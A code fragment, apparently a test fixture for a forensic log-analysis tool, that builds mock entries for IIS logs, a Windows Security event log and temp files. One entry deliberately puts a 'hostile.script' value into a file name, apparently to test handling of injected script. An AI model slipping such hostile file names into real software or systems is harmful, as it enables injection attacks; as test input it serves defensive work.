    first: events > 0 ? Date.UTC(2021, 2, 3) : null,
    last: events > 0 ? Date.UTC(2021, 2, 4) : null,
  })
  return [
    file('C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log', 56_000_000, 'iis', 56_000_000, 120_000),
    file('C/inetpub/logs/LogFiles/W3SVC1/u_ex210305.log', 1_114_112, 'iis', 1_048_576, 2_100),
    file('C/inetpub/logs/LogFiles/W3SVC1/u_ex210306.log', 397_896, 'iis', 397_776, 801),
    file('C/Windows/System32/winevt/Logs/Security.evtx', 20_975_616, null, 0, 0),
    file('C/temp/notes.bin', 12_288, 'scan', 12_288, 0),
    file(`C/temp/${hostile.script}.dat`, 3, 'scan', 3, 0),
  ]
}
